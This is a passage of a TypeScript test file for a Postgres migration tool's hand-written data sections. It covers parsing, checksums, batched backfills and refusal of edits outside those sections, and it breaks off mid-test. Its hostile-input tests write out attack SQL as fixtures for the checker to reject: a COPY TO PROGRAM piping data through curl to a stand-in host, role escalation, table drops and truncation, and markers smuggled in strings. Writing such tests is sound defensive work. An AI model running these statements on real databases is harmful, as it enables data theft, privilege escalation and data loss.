// Data migrations (issue 14, first half): hand-written DML in the data sections (`-- +data`,
// `-- +data batched <schema>.<table> key <column> size <n>`) of a generated migration. The file
// format round trip, hostile text in data sections, `check` re-rendering the schema part and
// refusing any edit outside the data sections (the defect), the rules on what a data
// section may hold, the batched declaration against the snapshots, `generate --data`, `rebase`
// carrying data sections over, and the batch renderer.
import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { bigint, numeric, ServiceStack, Table, text, varchar } from '../../lib';
import { migrationDirectoryOf, modelOf } from '../../lib/project';
import { generateMigration } from '../../lib/migrations/generate';
import { checksumOf, DataSectionText, formatMigration, parseMigration, RENDERER } from '../../lib/migrations/migration-file';
import { rebaseMigration } from '../../lib/migrations/rebase';
import { schemaPartProblems } from '../../lib/migrations/schema-part-check';
import { MigrationDirectory } from '../../lib/migrations/migration-directory';
import { parseSum } from '../../lib/migrations/sum-file';
import { plannedSteps, stepBatch } from '../../lib/migrations/planned-steps';
import { batchedStatement } from '../../lib/sql/batched-statement';
import { parseScript } from '../../lib/sql/parser';
import { testProject, TestProject } from '../support/project';

type Extra = Record<string, ReturnType<typeof numeric> | ReturnType<typeof text>>;

/** datahub.klines, with `extra` columns; `unique` adds a unique constraint on symbol. */
const klines =
  (extra: Extra = {}, options: { symbolUnique?: boolean } = {}) =>
  (stack: ServiceStack) => {
    new Table(stack, 'klines', {
      columns: { id: bigint().generatedAlwaysAsIdentity(), symbol: varchar(32).notNull(), close: numeric(20, 8).notNull(), ...extra },
      primaryKey: ['id'],
      ...(options.symbolUnique ? { uniques: [{ columns: ['symbol'] }] } : {}),
    });
  };

const sqlFiles = (dir: string): string[] => readdirSync(dir).filter((f) => f.endsWith('.sql')).sort();

/** A project whose datahub has klines in a first migration. */
async function baseProject(root?: string): Promise<TestProject> {
  const project = testProject(root);
  project.tables.datahub = klines();
  expect((await project.cli('generate', 'datahub', 'add_klines')).code).toBe(0);
  return project;
}

/** `generate <description> --data` (the library entry; the command line option is the lead's line in cli.ts). */
function generateWithData(project: TestProject, description: string, now?: Date) {
  const result = generateMigration({ directory: migrationDirectoryOf(project, 'datahub'), model: modelOf(project, 'datahub'), description, data: true, registry: project.registry, ...(now ? { now } : {}) });
  if (!result.written) throw new Error('nothing written');
  return result;
}

/** The path of a datahub migration file. */
const fileOf = (project: TestProject, id: string) => path.join(project.migrationsDirectory('datahub'), `${id}.sql`);

/** Replaces the migration's first data section (marker and body) with `lines`, as an engineer fills the template. */
function fillData(project: TestProject, id: string, lines: readonly string[]): string {
  const file = fileOf(project, id);
  const migration = parseMigration(`${id}.sql`, readFileSync(file, 'utf8'));
  const section = migration.dataSections[0];
  const all = migration.text.split('\n');
  const text = [...all.slice(0, section.markerLine - 1), ...lines, ...all.slice(section.endLine)].join('\n');
  writeFileSync(file, text);
  return text;
}

/** A datahub migration adding `volume` NOT NULL, filled by a batched backfill, rehashed: what an engineer commits. */
async function backfilledVolume(project: TestProject, data: readonly string[] = ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET volume = close * 2 WHERE volume IS NULL;']) {
  project.tables.datahub = klines({ volume: numeric(20, 8).notNull() });
  const { migration } = generateWithData(project, 'add_volume');
  const text = fillData(project, migration.id, data);
  expect((await project.cli('rehash', 'datahub')).code).toBe(0);
  return { id: migration.id, text };
}

describe('the defect: `check` accepted any hand edit of a generated migration (failed before this change: exit 0)', () => {
  test('DDL added to a generated migration and rehashed no longer matches the snapshot: refused with the file, line and fix', async () => {
    const project = await baseProject();
    project.tables.datahub = klines({ volume: numeric(20, 8) });
    expect((await project.cli('generate', 'datahub', 'add_volume')).code).toBe(0);
    const dir = project.migrationsDirectory('datahub');
    const file = sqlFiles(dir)[1];
    const text = readFileSync(path.join(dir, file), 'utf8');
    writeFileSync(path.join(dir, file), text.replace('-- +down\n', 'ALTER TABLE "datahub"."klines" DROP COLUMN "close";\n\n-- +down\n'));
    expect((await project.cli('rehash', 'datahub')).code).toBe(0);
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    const line = text.split('\n').indexOf('-- +down') + 1;
    expect(checked.err).toContain(
      `datahub: ${file} line ${line}: the file is not what \`generate\` writes for snapshots/${sqlFiles(dir)[0].replace('.sql', '')}.json -> snapshots/${file.replace('.sql', '')}.json: ` +
        `it reads "ALTER TABLE \\"datahub\\".\\"klines\\" DROP COLUMN \\"close\\";" where \`generate\` writes "-- +down". Only its "-- +data" sections are hand-written`,
    );
    expect(checked.err).toContain(`Fix: move the edit into a data section, or restore the file (\`git checkout -- ${path.join(dir, file)}\`); if it was never applied, \`npm run bedrock -- rebase datahub ${file.replace('.sql', '')}\``);
  });

  test.each([
    ['a hand-written UPDATE in a generated step', (t: string) => t.replace('ADD COLUMN "volume" numeric(20,8);\n', 'ADD COLUMN "volume" numeric(20,8);\nUPDATE datahub.klines SET volume = 0;\n'), 'it reads "UPDATE datahub.klines SET volume = 0;"'],
    ['a changed statement', (t: string) => t.replace('numeric(20,8);\n\n-- +down', 'numeric(30,8);\n\n-- +down'), 'it reads "ALTER TABLE \\"datahub\\".\\"klines\\" ADD COLUMN \\"volume\\" numeric(30,8);"'],
    ['an edited summary line', (t: string) => t.replace('--   add column datahub.klines.volume numeric(20,8)', '--   add column datahub.klines.volume (harmless)'), 'it reads "--   add column datahub.klines.volume (harmless)"'],
    ['a comment line', (t: string) => t.replace('-- +down\n', '-- reviewed by Ann\n-- +down\n'), 'it reads "-- reviewed by Ann"'],
    ['a statement removed', (t: string) => t.replace('ALTER TABLE "datahub"."klines" DROP COLUMN "volume";\n', ''), "`generate` writes \"ALTER TABLE \\\"datahub\\\".\\\"klines\\\" DROP COLUMN \\\"volume\\\";\" here, which the file lacks"],
  ])('%s is refused', async (_what, edit, message) => {
    const project = await baseProject();
    project.tables.datahub = klines({ volume: numeric(20, 8) });
    expect((await project.cli('generate', 'datahub', 'add_volume')).code).toBe(0);
    const dir = project.migrationsDirectory('datahub');
    const file = path.join(dir, sqlFiles(dir)[1]);
    writeFileSync(file, edit(readFileSync(file, 'utf8')));
    expect((await project.cli('rehash', 'datahub')).code).toBe(0);
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    expect(checked.err).toContain(message);
  });

  test('an acknowledgement line and blank lines are not edits of the generated part', async () => {
    const project = await baseProject();
    project.tables.datahub = klines({ volume: numeric(20, 8) });
    expect((await project.cli('generate', 'datahub', 'add_volume')).code).toBe(0);
    const dir = project.migrationsDirectory('datahub');
    const file = path.join(dir, sqlFiles(dir)[1]);
    writeFileSync(file, readFileSync(file, 'utf8').replace('-- +up\n', '-- +up\n-- bedrock:acknowledge BEDROCK-L7 reviewed\n\n'));
    expect((await project.cli('rehash', 'datahub')).code).toBe(0);
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test('an edited snapshot no longer matches the migration written from it', async () => {
    const project = await baseProject();
    project.tables.datahub = klines({ volume: numeric(20, 8) });
    expect((await project.cli('generate', 'datahub', 'add_volume')).code).toBe(0);
    const dir = project.migrationsDirectory('datahub');
    const id = sqlFiles(dir)[1].replace('.sql', '');
    const snapshot = path.join(dir, 'snapshots', `${id}.json`);
    writeFileSync(snapshot, readFileSync(snapshot, 'utf8').replace('"numeric(20,8)",\n          "notNull": false', '"numeric(30,8)",\n          "notNull": false'));
    project.tables.datahub = klines({ volume: numeric(30, 8) });
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    expect(checked.err).toContain(`datahub: ${id}.sql line 6: the file is not what \`generate\` writes`);
  });
});

describe('the file format', () => {
  const base = { id: '20260101_000000_datahub_x', service: 'datahub', parent: '20250101_000000_datahub_a', summary: ['add column datahub.t.v integer'], destructive: [] };
  const transaction: DataSectionText = { data: { kind: 'transaction' }, body: "INSERT INTO datahub.sources (name) VALUES ('binance');" };
  const batched: DataSectionText = { data: { kind: 'batched', schema: 'datahub', table: 't', key: 'id', size: 5000 }, body: '-- fill v\nUPDATE datahub.t SET v = 1 WHERE v IS NULL;' };

  test('data sections round trip: formatted among the steps, parsed back to their declarations, text and lines', () => {
    const text = formatMigration({
      ...base,
      renderer: RENDERER,
      dataMode: true,
      up: [{ mode: 'transaction', statements: ['ALTER TABLE "datahub"."t" ADD COLUMN "v" integer;'] }, batched, transaction, { mode: 'transaction', statements: ['SELECT 1;'] }],
      down: [transaction, { mode: 'transaction', statements: ['ALTER TABLE "datahub"."t" DROP COLUMN "v";'] }],
    });
    const lines = text.split('\n');
    const migration = parseMigration(`${base.id}.sql`, text);
    expect(migration.renderer).toBe(RENDERER);
    expect(lines).toContain('-- renderer: 2');
    expect(migration.dataSections).toEqual([
      { section: 'up', declaration: batched.data, sql: batched.body, markerLine: lines.indexOf('-- +data batched datahub.t key id size 5000') + 1, endLine: lines.indexOf('-- +data batched datahub.t key id size 5000') + 3, line: lines.indexOf('-- fill v') + 1, step: 1 },
      { section: 'up', declaration: { kind: 'transaction' }, sql: transaction.body, markerLine: lines.indexOf('-- +data') + 1, endLine: lines.indexOf('-- +data') + 2, line: lines.indexOf('-- +data') + 2, step: 2 },
      { section: 'down', declaration: { kind: 'transaction' }, sql: transaction.body, markerLine: lines.lastIndexOf('-- +data') + 1, endLine: lines.lastIndexOf('-- +data') + 2, line: lines.lastIndexOf('-- +data') + 2, step: 0 },
    ]);
    expect(migration.upSteps.map((s) => [s.mode, s.data?.kind ?? 'schema'])).toEqual([
      ['transaction', 'schema'],
      ['transaction', 'batched'],
      ['transaction', 'transaction'],
      ['transaction', 'schema'],
    ]);
    // The same content, the same bytes.
    expect(formatMigration({ ...base, renderer: RENDERER, dataMode: true, up: [{ mode: 'transaction', statements: ['ALTER TABLE "datahub"."t" ADD COLUMN "v" integer;'] }, batched, transaction, { mode: 'transaction', statements: ['SELECT 1;'] }], down: [transaction, { mode: 'transaction', statements: ['ALTER TABLE "datahub"."t" DROP COLUMN "v";'] }] })).toBe(text);
  });

  test('an empty data section (the template generate writes) parses, with its comments as its text', () => {
    const text = formatMigration({ ...base, dataMode: true, up: [{ data: { kind: 'transaction' }, body: '-- write the DML here' }], down: [] });
    const migration = parseMigration(`${base.id}.sql`, text);
    expect(migration.dataSections).toMatchObject([{ section: 'up', sql: '-- write the DML here' }]);
    expect(parseMigration(`${base.id}.sql`, text.replace('-- write the DML here\n', '')).dataSections).toMatchObject([{ section: 'up', sql: '' }]);
  });

  test("Bedrock's committed migrations parse as before: no renderer line, no data section, their checksums those of bedrock.sum", () => {
    let files = 0;
    for (const service of ['datahub', 'portfolio', 'backtesting', 'mlops', 'decision_engine']) {
      const dir = path.join(__dirname, '..', '..', 'stacks', service, 'migrations');
      const sums = parseSum(readFileSync(path.join(dir, 'bedrock.sum'), 'utf8'));
      for (const file of sqlFiles(dir)) {
        const text = readFileSync(path.join(dir, file), 'utf8');
        const migration = parseMigration(file, text);
        expect(migration.renderer).toBeUndefined();
        expect(migration.dataSections).toEqual([]);
        expect(migration.upSteps.every((s) => s.data === undefined)).toBe(true);
        expect(migration.checksum).toBe(checksumOf(text));
        expect(sums.checksums.get(migration.id)).toBe(migration.checksum);
        // Written by an older generate (tables in the order the code defined them): taken as written.
        expect(schemaPartProblems(migration, new MigrationDirectory(dir, service, service))).toEqual([]);
        files += 1;
      }
    }
    expect(files).toBeGreaterThanOrEqual(5);
  });

  test('a file written before steps existed keeps its single step, and one with steps its steps', () => {
    const old = parseMigration('20250101_000000_datahub_a.sql', '-- service: datahub\n-- parent: none\n\n-- +up\nCREATE TABLE datahub.t (id int);\nCOMMENT ON TABLE datahub.t IS \'x\';\n\n-- +down\nDROP TABLE datahub.t;\n');
    expect(old.upSteps).toEqual([{ mode: 'transaction', sql: "CREATE TABLE datahub.t (id int);\nCOMMENT ON TABLE datahub.t IS 'x';", line: 5 }]);
    expect(old.dataSections).toEqual([]);
    const stepped = parseMigration('20250101_000000_datahub_b.sql', '-- service: datahub\n-- parent: none\n-- +up\n-- +step\nSELECT 1;\n-- +step outside transaction\nVACUUM datahub.t;\n-- +down\n');
    expect(stepped.upSteps).toEqual([
      { mode: 'transaction', sql: 'SELECT 1;', line: 5 },
      { mode: 'outside transaction', sql: 'VACUUM datahub.t;', line: 7 },
    ]);
  });
});

describe('hostile text in data sections', () => {
  const file = (body: string[]) => ['-- service: datahub', '-- parent: none', '-- renderer: 2', '', '-- +up', ...body, '', '-- +down', ''].join('\n');

  test.each([
    ['a marker line inside a string', ['-- +data', "INSERT INTO datahub.notes (body) VALUES ('a", '-- +step', "DROP TABLE datahub.klines; ');"], 'line 8 reads "-- +step" inside a string, dollar quote or comment'],
    ['a data marker inside a dollar quote', ['-- +data', 'INSERT INTO datahub.notes (body) VALUES ($x$', '-- +data batched datahub.klines key id size 1', '$x$);'], 'line 8 reads "-- +data batched datahub.klines key id size 1" inside a string, dollar quote or comment'],
    ['"-- +down" inside a C comment', ['-- +data', '/*', '-- +down', '*/ SELECT 1;'], 'line 8 reads "-- +down" inside a string, dollar quote or comment'],
    ['an unknown data marker', ['-- +data please', 'SELECT 1;'], 'line 6: "-- +data please" is not a data marker: use "-- +data" or "-- +data batched <schema>.<table> key <column> size <rows>"'],
    ['an unqualified batched table', ['-- +data batched klines key id size 10', 'UPDATE klines SET x = 1;'], 'line 6: "-- +data batched klines key id size 10" is not a data marker'],
    ['a batch size of 0', ['-- +data batched datahub.klines key id size 0', 'UPDATE datahub.klines SET x = 1;'], 'is not a data marker'],
    ['a quoted name in the declaration', ['-- +data batched "datahub".klines key id size 10', 'UPDATE datahub.klines SET x = 1;'], 'is not a data marker'],
    ['text after the declaration', ['-- +data batched datahub.klines key id size 10 -- and more', 'UPDATE datahub.klines SET x = 1;'], 'is not a data marker'],
    ['an unterminated string', ['-- +data', "UPDATE datahub.klines SET note = 'oops;"], 'it does not scan as SQL'],
    ['a bidi override', ['-- +data', "UPDATE datahub.klines SET note = 'a\u202eb';"], 'line 7: it contains U+202E'],
  ])('%s is refused when the file is read', (_what, body, message) => {
    expect(() => parseMigration('20260101_000000_datahub_x.sql', file(body))).toThrow(message);
  });

  test('a data marker in the header is refused', () => {
    expect(() => parseMigration('20260101_000000_datahub_x.sql', ['-- service: datahub', '-- parent: none', '-- +data', '-- +up', '-- +down', ''].join('\n'))).toThrow('line 3: "-- +data" comes before "-- +up": steps and data sections belong in the up and down sections');
  });

  test('data sections in a file whose header says "-- transactional: false" are refused', () => {
    expect(() => parseMigration('20260101_000000_datahub_x.sql', ['-- service: datahub', '-- parent: none', '-- transactional: false', '-- +up', '-- +data', 'SELECT 1;', '-- +down', ''].join('\n'))).toThrow('the header says "-- transactional: false" and the file has "-- +data" lines');
  });

  test('what a hostile data section holds is refused by the rules, each by its line', async () => {
    const project = await baseProject();
    const { id } = await backfilledVolume(project);
    const text = fillData(project, id, [
      '-- +data',
      'COMMIT;',
      'SET ROLE postgres;',
      'DROP TABLE datahub.klines;',
      "COPY datahub.klines TO PROGRAM 'curl evil';",
      'SELECT * INTO datahub.copy FROM datahub.klines;',
      'TRUNCATE datahub.klines;',
      "SELECT set_config('role', 'postgres', false);",
      'UPDATE portfolio.positions SET quantity = 0 WHERE true;',
    ]);
    expect((await project.cli('rehash', 'datahub')).code).toBe(0);
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    const at = (sql: string) => `datahub: ${id}.sql line ${text.split('\n').indexOf(sql) + 1}: `;
    expect(checked.err).toContain(`${at('COMMIT;')}[BEDROCK-S5] COMMIT is not DML: a data section holds only INSERT, UPDATE, DELETE and SELECT on datahub's tables; the runner runs each data section in a transaction of its own`);
    expect(checked.err).toContain(`${at('SET ROLE postgres;')}[BEDROCK-S2] SET ROLE`);
    expect(checked.err).toContain(`${at('SET ROLE postgres;')}[BEDROCK-S5] SET ROLE is not DML`);
    expect(checked.err).toContain(`${at('DROP TABLE datahub.klines;')}[BEDROCK-S5] DROP TABLE is not DML: a data section holds only INSERT, UPDATE, DELETE and SELECT on datahub's tables; schema changes come from the tables in code`);
    expect(checked.err).toContain(`${at("COPY datahub.klines TO PROGRAM 'curl evil';")}[BEDROCK-S5] COPY is not DML`);
    expect(checked.err).toContain(`${at('SELECT * INTO datahub.copy FROM datahub.klines;')}[BEDROCK-S5] SELECT ... INTO creates a table`);
    expect(checked.err).toContain(`${at('TRUNCATE datahub.klines;')}[BEDROCK-S5] TRUNCATE is not DML: a data section holds only INSERT, UPDATE, DELETE and SELECT on datahub's tables; TRUNCATE takes the table from every reader at once`);
    expect(checked.err).toContain(`${at("SELECT set_config('role', 'postgres', false);")}[BEDROCK-S2] SELECT calls set_config()`);
    expect(checked.err).toContain(`${at('UPDATE portfolio.positions SET quantity = 0 WHERE true;')}[BEDROCK-S1] UPDATE portfolio.positions touches service portfolio's schema`);
  });
});

describe('what a data section may hold, and its declaration', () => {
  test('a filled batched backfill passes check: its UPDATE without WHERE is bounded by the batches (L12 does not apply)', async () => {
    const project = await baseProject();
    await backfilledVolume(project, ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET volume = close * 2;']);
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test('the same UPDATE without WHERE in a "-- +data" section (one transaction) is L12, until acknowledged', async () => {
    const project = await baseProject();
    const { id, text } = await backfilledVolume(project, ['-- +data', 'UPDATE datahub.klines SET volume = close * 2;']);
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    expect(checked.err).toContain(`datahub: ${id}.sql line ${text.split('\n').indexOf('UPDATE datahub.klines SET volume = close * 2;') + 1}: [BEDROCK-L12] UPDATE updates every row on datahub.klines`);
    writeFileSync(fileOf(project, id), text.replace('-- +data\n', '-- +data\n-- bedrock:acknowledge BEDROCK-L12 klines holds a few hundred rows\n'));
    expect((await project.cli('rehash', 'datahub')).code).toBe(0);
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test.each([
    ['an empty section (the template left as generated)', ['-- +data', '-- nothing yet'], (line: number) => `line ${line}: [BEDROCK-S5] the data section holds no statement (only comments): write its DML`],
    ['another table than declared', ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.other SET x = 1;'], () => '[BEDROCK-S5] UPDATE in the batched data section: it updates datahub.other, not the declared table datahub.klines'],
    ['an INSERT', ['-- +data batched datahub.klines key id size 10000', 'INSERT INTO datahub.klines (symbol, close) VALUES (\'x\', 1);'], () => '[BEDROCK-S5] INSERT INTO in the batched data section: a batched section runs one UPDATE or DELETE of datahub.klines'],
    ['two statements', ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET volume = 1;', 'UPDATE datahub.klines SET volume = 2;'], (line: number) => `line ${line}: [BEDROCK-S5] the batched data section holds 2 statements: it holds exactly one UPDATE or DELETE of datahub.klines`],
    ['an UPDATE of the key', ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET id = id + 1, volume = 1;'], () => '[BEDROCK-S5] UPDATE in the batched data section: it sets the batch key id'],
    ['RETURNING', ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET volume = 1 RETURNING id;'], () => 'RETURNING has no use in a batched section'],
    ['WITH', ['-- +data batched datahub.klines key id size 10000', 'WITH x AS (SELECT 1) UPDATE datahub.klines SET volume = 1;'], () => 'a batched statement cannot start with WITH'],
    ['a parameter', ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET volume = $1;'], () => 'it has a parameter ($1)'],
    ['a window function (not written by the batch renderer)', ['-- +data batched datahub.klines key id size 10000', 'UPDATE datahub.klines SET volume = (SELECT sum(close) OVER () FROM datahub.klines k LIMIT 1);'], () => 'it uses a function call with over, which the batch renderer does not write'],
    ['another schema in the declaration', ['-- +data batched portfolio.positions key id size 10000', 'UPDATE portfolio.positions SET quantity = 1;'], (line: number) => `line ${line}: [BEDROCK-S5] it declares portfolio.positions, in schema portfolio: datahub's data sections change datahub's tables only`],
    ['a table the snapshot lacks', ['-- +data batched datahub.nope key id size 10000', 'UPDATE datahub.nope SET x = 1;'], (line: number) => `line ${line}: [BEDROCK-S5] it declares datahub.nope, which the snapshot after this migration does not have (tables: klines)`],
    ['a key column the table lacks', ['-- +data batched datahub.klines key nope size 10000', 'UPDATE datahub.klines SET volume = 1;'], (line: number) => `line ${line}: [BEDROCK-S5] key nope: datahub.klines has no column "nope": batch by a unique NOT NULL column (e.g. its primary key: key id)`],
    ['a key that is not unique', ['-- +data batched datahub.klines key symbol size 10000', 'UPDATE datahub.klines SET volume = 1;'], () => '[BEDROCK-S5] key symbol: column symbol of datahub.klines is not unique on its own (a single-column primary key, unique constraint or unique index): batches by a key that repeats would run rows twice or skip them'],
    ['a batch too large', ['-- +data batched datahub.klines key id size 500000', 'UPDATE datahub.klines SET volume = 1;'], () => '[BEDROCK-S5] size 500000: at most 100,000 rows per batch'],
    ['DDL', ['-- +data', 'ALTER TABLE datahub.klines ADD COLUMN extra int;'], () => '[BEDROCK-S5] ALTER TABLE is not DML'],
  ])('%s is refused, naming the line and the fix', async (_what, data, message) => {
    const project = await baseProject();
    const { text } = await backfilledVolume(project, data);
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    expect(checked.err).toContain(message(text.split('\n').indexOf(data[0]) + 1));
  });

  test('a nullable unique key is refused; a NOT NULL unique one passes', async () => {
    const nullable = await baseProject();
    nullable.tables.datahub = klines({ code: text() }, { symbolUnique: true });
    await nullable.cli('generate', 'datahub', 'symbol_unique');
    const declared = ['-- +data batched datahub.klines key symbol size 10000', 'UPDATE datahub.klines SET volume = 1;'];
    const withVolume = (project: TestProject) => {
      project.tables.datahub = klines({ code: text(), volume: numeric(20, 8).notNull() }, { symbolUnique: true });
    };
    withVolume(nullable);
    const { migration } = generateWithData(nullable, 'add_volume');
    fillData(nullable, migration.id, declared);
    await nullable.cli('rehash', 'datahub');
    expect(await nullable.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
    const keyedByCode = fillData(nullable, migration.id, ['-- +data batched datahub.klines key code size 10000', 'UPDATE datahub.klines SET volume = 1;']);
    await nullable.cli('rehash', 'datahub');
    const checked = await nullable.cli('check', 'datahub');
    expect(checked.err).toContain(`line ${keyedByCode.split('\n').indexOf('-- +data batched datahub.klines key code size 10000') + 1}: [BEDROCK-S5] key code: column code of datahub.klines is not unique on its own (a single-column primary key, unique constraint or unique index) and NOT NULL`);
  });

  test('a key made unique by the same migration is refused: it is added after the data sections run', async () => {
    const project = await baseProject();
    project.tables.datahub = klines({ volume: numeric(20, 8).notNull() }, { symbolUnique: true });
    const { migration } = generateWithData(project, 'add_volume');
    const text = fillData(project, migration.id, ['-- +data batched datahub.klines key symbol size 10000', 'UPDATE datahub.klines SET volume = 1;']);
    await project.cli('rehash', 'datahub');
    const checked = await project.cli('check', 'datahub');
    expect(checked.err).toContain(
      `line ${text.split('\n').indexOf('-- +data batched datahub.klines key symbol size 10000') + 1}: [BEDROCK-S5] key symbol: datahub.klines gets its unique NOT NULL key on symbol in this migration, after the data sections run: batch by a key the table has already (e.g. its primary key: key id)`,
    );
  });

  test('a batched section in the down is refused; a "-- +data" one there passes', async () => {
    const project = await baseProject();
    const { id, text } = await backfilledVolume(project);
    const withDown = (marker: string) => text.replace('-- +down\n-- +step\n', `-- +down\n${marker}\nUPDATE datahub.klines SET volume = NULL WHERE id > 0;\n-- +step\n`);
    writeFileSync(fileOf(project, id), withDown('-- +data batched datahub.klines key id size 100'));
    await project.cli('rehash', 'datahub');
    const refused = await project.cli('check', 'datahub');
    expect(refused.err).toContain('[BEDROCK-S5] a batched data section in the down: a rollback runs from the ledger');
    writeFileSync(fileOf(project, id), withDown('-- +data'));
    await project.cli('rehash', 'datahub');
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test('a data section in a file generate did not write (no renderer line) is refused: its generated part cannot be told from edits', async () => {
    const project = await baseProject();
    const dir = project.migrationsDirectory('datahub');
    const head = sqlFiles(dir)[0].replace('.sql', '');
    const id = '29990101_000000_datahub_hand_written';
    writeFileSync(path.join(dir, `${id}.sql`), ['-- service: datahub', `-- parent: ${head}`, '', '-- +up', '-- +data', "UPDATE datahub.klines SET symbol = 'x' WHERE id = 1;", '', '-- +down', ''].join('\n'));
    cpSync(path.join(dir, 'snapshots', `${head}.json`), path.join(dir, 'snapshots', `${id}.json`));
    await project.cli('rehash', 'datahub');
    const checked = await project.cli('check', 'datahub');
    expect(checked.code).toBe(8);
    expect(checked.err).toContain(`datahub: ${id}.sql line 5: a data section in a file \`generate\` did not write (its header has no "-- renderer: 2" line)`);
  });
});

describe('generate --data', () => {
  test('a new NOT NULL column without a default: added nullable, the data section after the expand step, SET NOT NULL (online) after it', async () => {
    const project = await baseProject();
    project.tables.datahub = klines({ volume: numeric(20, 8).notNull() });
    const refused = await project.cli('generate', 'datahub', 'add_volume');
    expect(refused.code).toBe(1);
    expect(refused.err).toContain('or generate with --data and fill it in the data section (it is added nullable, filled, then made NOT NULL)');
    const { migration, dataProblems } = generateWithData(project, 'add_volume');
    expect(dataProblems).toEqual([]);
    const up = migration.text.split('-- +up\n')[1].split('\n-- +down')[0];
    expect(up.split('\n').filter((l) => !l.startsWith('-- ') || l.startsWith('-- +'))).toEqual([
      '-- +step',
      'ALTER TABLE "datahub"."klines" ADD COLUMN "volume" numeric(20,8);',
      '-- +data',
      '-- +step',
      'ALTER TABLE "datahub"."klines" ADD CONSTRAINT "klines_volume_not_null_check" CHECK ("volume" IS NOT NULL) NOT VALID;',
      '-- +step',
      'ALTER TABLE "datahub"."klines" VALIDATE CONSTRAINT "klines_volume_not_null_check";',
      '-- +step',
      'ALTER TABLE "datahub"."klines" ALTER COLUMN "volume" SET NOT NULL;',
      'ALTER TABLE "datahub"."klines" DROP CONSTRAINT "klines_volume_not_null_check";',
      '',
    ]);
    expect(up).toContain('--   -- +data batched datahub.klines key id size 10000\n--   UPDATE datahub.klines SET volume = <expression> WHERE volume IS NULL;');
    expect(migration.text).toContain('-- Hand-written: the "-- +data" sections (DML, judged by `check`).');
    // Until the section holds its DML, check says so (and only that).
    const unfilled = await project.cli('check', 'datahub');
    expect(unfilled.err).toBe(`datahub: ${migration.id}.sql line ${migration.dataSections[0].markerLine}: [BEDROCK-S5] the data section holds no statement (only comments): write its DML (INSERT, UPDATE, DELETE, SELECT), or remove its "-- +data" line, then \`rehash\``);
  });

  test('a migration that drops a column copies it first: the drop goes after the data section', async () => {
    const project = testProject();
    project.tables.datahub = klines({ price: numeric(20, 8) });
    await project.cli('generate', 'datahub', 'add_klines');
    project.tables.datahub = klines({ price_usd: numeric(20, 8) });
    const result = generateMigration({ directory: migrationDirectoryOf(project, 'datahub'), model: modelOf(project, 'datahub'), description: 'price_in_usd', data: true, acceptDataLoss: true });
    if (!result.written) throw new Error('nothing written');
    const steps = result.migration.upSteps.map((s) => (s.data ? '-- +data' : s.sql));
    expect(steps).toEqual(['ALTER TABLE "datahub"."klines" ADD COLUMN "price_usd" numeric(20,8);', '-- +data', 'ALTER TABLE "datahub"."klines" DROP COLUMN "price";']);
  });

  test('with the tables unchanged, a migration of data only: the snapshot is its parent\'s, and it passes check once filled', async () => {
    const project = await baseProject();
    const dir = project.migrationsDirectory('datahub');
    const parent = sqlFiles(dir)[0].replace('.sql', '');
    expect(await project.cli('generate', 'datahub', 'nothing')).toMatchObject({ code: 0, out: 'datahub: no changes: the tables match the snapshot. Nothing written.' });
    const { migration } = generateWithData(project, 'seed_symbols');
    expect(migration.text).toContain('--   no schema change: data only\n');
    expect(migration.upSteps).toHaveLength(1);
    expect(migration.downSteps).toEqual([]);
    expect(readFileSync(path.join(dir, 'snapshots', `${migration.id}.json`), 'utf8')).toBe(readFileSync(path.join(dir, 'snapshots', `${parent}.json`), 'utf8'));
    fillData(project, migration.id, ['-- +data', "INSERT INTO datahub.klines (symbol, close) VALUES ('BTCUSDT', 0);"]);
    expect((await project.cli('rehash', 'datahub')).code).toBe(0);
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test('a data section with deleted content is named as such when the file no longer holds any', async () => {
    const project = await baseProject();
    const { id, text } = await backfilledVolume(project);
    const lines = text.split('\n');
    const migration = parseMigration(`${id}.sql`, text);
    const section = migration.dataSections[0];
    writeFileSync(fileOf(project, id), [...lines.slice(0, section.markerLine - 1), ...lines.slice(section.endLine)].join('\n'));
    await project.cli('rehash', 'datahub');
    const checked = await project.cli('check', 'datahub');
    expect(checked.err).toBe(`datahub: ${id}.sql: it was written with data sections and has none left: put its "-- +data" section back, or (never applied) \`npm run bedrock -- rebase datahub ${id}\` writes it again without`);
  });

  test('generate then check agree over a sequence of edits (tables, keys, indexes, checks, renames, type changes, drops), with and without data', async () => {
    const project = testProject();
    const positions = (stack: ServiceStack, extra: Extra = {}) =>
      new Table(stack, 'positions', { columns: { id: bigint().generatedAlwaysAsIdentity(), kline_id: bigint().notNull(), qty: numeric(20, 8).notNull(), ...extra }, primaryKey: ['id'] });
    const steps: [string, (stack: ServiceStack) => void, boolean][] = [
      ['create_tables', (s) => { const k = new Table(s, 'klines', { columns: { id: bigint().generatedAlwaysAsIdentity(), symbol: varchar(32).notNull() }, primaryKey: ['id'] }); new Table(s, 'positions', { columns: { id: bigint().generatedAlwaysAsIdentity(), kline_id: bigint().notNull(), qty: numeric(20, 8).notNull() }, primaryKey: ['id'], foreignKeys: [{ columns: ['kline_id'], references: k.ref('id') }] }); }, false],
